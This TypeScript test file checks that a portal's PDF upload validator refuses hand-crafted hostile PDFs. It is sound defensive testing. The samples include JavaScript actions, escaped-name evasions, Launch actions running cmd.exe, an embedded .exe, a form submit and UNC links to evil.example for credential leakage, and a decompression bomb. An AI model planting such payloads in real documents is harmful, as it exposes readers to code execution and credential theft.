import { deflateSync } from "node:zlib";
import { PDFDocument, StandardFonts } from "pdf-lib";
import { describe, expect, it } from "vitest";
import { isAppError } from "@/lib/errors";
import { renderInvoicePdf } from "@/lib/pdf/render-invoice";
import { validateUpload } from "@/lib/uploads/validate-upload";
import { makeCustomer, makeInvoice } from "../documents/fixtures";
import { TEST_COMPANY as COMPANY } from "../support/company";

/**
 * PDFs judged on their parsed objects (lib/uploads/pdf-safety.ts). The hostile PDFs are written by
 * hand, with a correct cross-reference table (or xref stream for compressed objects), so a real
 * viewer would open them and run what they carry; each one is refused in plain objects and inside
 * a Flate-compressed object stream, where the former raw-bytes regex saw nothing.
 */

async function rejection(promise: Promise<unknown>): Promise<{ reason: unknown; message: string; internal: string }> {
  try {
    await promise;
  } catch (error) {
    if (!isAppError(error)) throw error;
    expect(error.code).toBe("VALIDATION");
    return { reason: error.details?.reason, message: error.userMessage, internal: error.message };
  }
  throw new Error("expected a rejection");
}

interface Payload {
  /** Entries added to the catalog (object 1) and the page (object 3). */
  catalog?: string;
  page?: string;
  /** Extra dictionaries, numbered 10, 11, … (compressible). */
  objects?: string[];
  /** Extra streams [dict entries, data], numbered 30, 31, … (never compressible). */
  streams?: [string, string | Buffer][];
  trailer?: string;
}

/**
 * A one-page PDF carrying `payload`. `compressed`: every dictionary (catalog, pages, page,
 * payload) sits in a Flate object stream, indexed by an xref stream, as PDF 1.5 writers do.
 */
function handPdf(payload: Payload, compressed = false): Uint8Array {
  const content = "BT /F1 12 Tf 72 720 Td (Devis concurrent) Tj ET";
  const dicts = new Map<number, string>([
    [1, `<< /Type /Catalog /Pages 2 0 R ${payload.catalog ?? ""} >>`],
    [2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"],
    [3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${payload.page ?? ""} >>`],
    [5, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"],
  ]);
  (payload.objects ?? []).forEach((body, i) => dicts.set(10 + i, body));
  const streams = new Map<number, [string, Buffer]>([[4, ["", Buffer.from(content, "latin1")]]]);
  (payload.streams ?? []).forEach(([dict, data], i) => streams.set(30 + i, [dict, typeof data === "string" ? Buffer.from(data, "latin1") : data]));

  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  let length = parts[0]!.length;
  const plain = new Map<number, number>(); // object → offset
  const inStream = new Map<number, [number, number]>(); // object → [object stream, index]
  const write = (num: number, body: Buffer) => {
    plain.set(num, length);
    const chunk = Buffer.concat([Buffer.from(`${num} 0 obj\n`, "latin1"), body, Buffer.from("\nendobj\n", "latin1")]);
    parts.push(chunk);
    length += chunk.length;
  };
  const streamBody = (dict: string, data: Buffer) =>
    Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, "latin1"), data, Buffer.from("\nendstream", "latin1")]);

  for (const [num, [dict, data]] of streams) write(num, streamBody(dict, data));
  const OBJSTM = 50;
  if (compressed) {
    const nums = [...dicts.keys()];
    let header = "";
    let body = "";
    nums.forEach((num, index) => {
      header += `${num} ${body.length} `;
      body += `${dicts.get(num)}\n`;
      inStream.set(num, [OBJSTM, index]);
    });
    const data = deflateSync(Buffer.from(header + body, "latin1"));
    write(OBJSTM, streamBody(`/Type /ObjStm /N ${nums.length} /First ${header.length} /Filter /FlateDecode`, data));
  } else {
    for (const [num, body] of dicts) write(num, Buffer.from(body, "latin1"));
  }

  const size = Math.max(...plain.keys(), ...inStream.keys()) + 2;
  const trailer = `/Size ${size} /Root 1 0 R ${payload.trailer ?? ""}`;
  if (compressed) {
    const XREF = size - 1;
    plain.set(XREF, length);
    const rows = Buffer.alloc(size * 7);
    for (let n = 0; n < size; n++) {
      const at = n * 7;
      const packed = inStream.get(n);
      if (plain.has(n)) {
        rows[at] = 1;
        rows.writeUInt32BE(plain.get(n)!, at + 1);
      } else if (packed) {
        rows[at] = 2;
        rows.writeUInt32BE(packed[0], at + 1);
        rows.writeUInt16BE(packed[1], at + 5);
      } else {
        rows.writeUInt16BE(n === 0 ? 65535 : 0, at + 5);
      }
    }
    const xrefAt = length;
    write(XREF, streamBody(`/Type /XRef ${trailer} /W [1 4 2] /Filter /FlateDecode`, deflateSync(rows)));
    parts.push(Buffer.from(`startxref\n${xrefAt}\n%%EOF\n`, "latin1"));
  } else {
    let xref = `xref\n0 ${size}\n0000000000 65535 f \n`;
    for (let n = 1; n < size; n++) xref += plain.has(n) ? `${String(plain.get(n)).padStart(10, "0")} 00000 n \n` : "0000000000 00000 f \n";
    parts.push(Buffer.from(`${xref}trailer\n<< ${trailer} >>\nstartxref\n${length}\n%%EOF\n`, "latin1"));
  }
  return new Uint8Array(Buffer.concat(parts));
}

/** Each kind of active content, as a viewer would act on it. */
const ACTIVE: [string, Payload][] = [
  ["JavaScript name tree", { catalog: "/Names << /JavaScript 10 0 R >>", objects: ["<< /Names [(go) 11 0 R] >>", "<< /S /JavaScript /JS (app.alert(1)) >>"] }],
  ["escaped names (/J#61vaScript, /J#53)", { catalog: "/Names << /J#61vaScript 10 0 R >>", objects: ["<< /Names [(go) 11 0 R] >>", "<< /S /J#61vaScript /J#53 (app.alert(1)) >>"] }],
  ["escaped Launch (/L#61unch) on a link", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /L#61unch /F (cmd.exe) >> >>"] }],
  ["Launch action", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) >> >>"] }],
  ["OpenAction opening a web page", { catalog: "/OpenAction 10 0 R", objects: ["<< /S /URI /URI (https://tracker.example/open) >>"] }],
  ["OpenAction naming an action", { catalog: "/OpenAction << /S /Named /N /Print >>" }],
  ["OpenAction GoTo chained to another action", { catalog: "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://tracker.example/) >> >>" }],
  ["page AA (additional action on open)", { page: "/AA << /O << /S /URI /URI (https://tracker.example/page) >> >>" }],
  ["EmbeddedFiles", { catalog: "/Names << /EmbeddedFiles 10 0 R >>", objects: ["<< /Names [(facture.exe) 11 0 R] >>", "<< /Type /Filespec /F (facture.exe) /EF << /F 30 0 R >> >>"], streams: [["", "MZ"]] }],
  ["FileAttachment annotation", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 11 0 R >>", "<< /Type /Filespec /F (a.exe) >>"] }],
  ["XFA form", { catalog: "/AcroForm << /Fields [] /XFA 30 0 R >>", streams: [["", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"]] }],
  ["RichMedia annotation", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>"] }],
  ["SubmitForm", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example/) >> >>"] }],
  ["ImportData", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>"] }],
  ["GoToR to a network share (credential leak)", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoToR /F (\\\\\\\\evil.example\\\\s\\\\a.pdf) /D [0 /Fit] >> >>"] }],
  ["URI with javascript:", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (  JavaScript:app.alert\\(1\\)) >> >>"] }],
  ["URI to a file: path", { page: "/Annots [10 0 R]", objects: ["<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (file:///C:/Windows/system32/calc.exe) >> >>"] }],
  ["URI as a hex string to a UNC path", { page: "/Annots [10 0 R]", objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI <${Buffer.from("\\\\evil.example\\share").toString("hex")}> >> >>`] }],
];

describe("PDF uploads judged on their parsed objects", () => {
  it("the hand-written PDFs are real PDFs (pdf-lib reads their page, plain and compressed)", async () => {
    for (const compressed of [false, true]) {
      const doc = await PDFDocument.load(handPdf({}, compressed));
      expect(doc.getPageCount()).toBe(1);
    }
  });

  it.each(ACTIVE.flatMap(([name, payload]) => [[`${name}, plain`, payload, false] as const, [`${name}, in a Flate object stream`, payload, true] as const]))(
    "refuses %s",
    async (_name, payload, compressed) => {
      const r = await rejection(validateUpload(handPdf(payload, compressed), "devis.pdf"));
      expect(r.reason).toBe("pdf_active");
      expect(r.message).toBe("Ce PDF contient du contenu actif (script, action automatique, pièce jointe, formulaire XFA) : enregistrez-le de nouveau en PDF simple.");
    },
  );

  it("accepts harmless navigation: an OpenAction showing the first page, https and mailto links", async () => {
    for (const compressed of [false, true]) {
      const pdf = handPdf(
        {
          catalog: "/OpenAction [3 0 R /XYZ null null 0]",
          page: "/Annots [10 0 R 11 0 R]",
          objects: [
            "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (https://www.duret-electricite.fr/cgv) >> >>",
            "<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (mailto:contact@example.fr) >> >>",
          ],
        },
        compressed,
      );
      await expect(validateUpload(pdf, "devis.pdf")).resolves.toMatchObject({ mimeType: "application/pdf" });
    }
  });

  it("accepts a plain pdf-lib PDF written with object streams, and stores what it parsed", async () => {
    const doc = await PDFDocument.create();
    const page = doc.addPage();
    page.drawText("Devis concurrent n° 42", { font: await doc.embedFont(StandardFonts.Helvetica), x: 50, y: 700 });
    doc.addPage();
    const out = await validateUpload(await doc.save({ useObjectStreams: true }), "devis.pdf");
    expect(out).toMatchObject({ mimeType: "application/pdf", extension: "pdf", fileName: "devis.pdf" });
    const stored = await PDFDocument.load(out.bytes);
    expect(stored.getPageCount()).toBe(2);
  });

  it("accepts the portal's own invoice PDF (lib/pdf)", async () => {
    const bytes = await renderInvoicePdf(makeInvoice(), makeCustomer(), COMPANY);
    const out = await validateUpload(bytes, "facture.pdf");
    expect((await PDFDocument.load(out.bytes)).getPageCount()).toBe((await PDFDocument.load(bytes)).getPageCount());
  });

  it("refuses an encrypted PDF with its own message", async () => {
    const pdf = handPdf({ objects: ["<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <00> /U <00> >>"], trailer: "/Encrypt 10 0 R /ID [<01> <01>]" });
    const r = await rejection(validateUpload(pdf, "protégé.pdf"));
    expect(r.reason).toBe("pdf_encrypted");
    expect(r.message).toMatch(/^Ce PDF est protégé/);
  });

  it("refuses a PDF that cannot be parsed", async () => {
    const garbage = new Uint8Array(Buffer.from("%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Kids [ 3 0 R ( >> endobj\n", "latin1"));
    const r = await rejection(validateUpload(garbage, "abîmé.pdf"));
    expect(r.reason).toBe("corrupt");
    expect(r.message).toBe("Ce PDF est illisible ou abîmé : enregistrez-le de nouveau en PDF simple.");
  });

  it("refuses an object stream that would inflate to gigabytes, without inflating it", async () => {
    // 80 MB of zeros compress to ~80 KB; pdf-lib alone would inflate them in full.
    const bomb = deflateSync(Buffer.alloc(80 * 1024 * 1024), { level: 9 });
    const pdf = handPdf({ streams: [["/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb]] });
    const before = process.memoryUsage().rss;
    const r = await rejection(validateUpload(pdf, "bombe.pdf"));
    expect(r.reason).toBe("corrupt");
    // Stopped by the size check before pdf-lib's own inflate (which would also fail, after inflating).
    expect(r.internal).toContain("does not inflate within the cap");
    expect(process.memoryUsage().rss - before).toBeLessThan(300 * 1024 * 1024);
  });
});
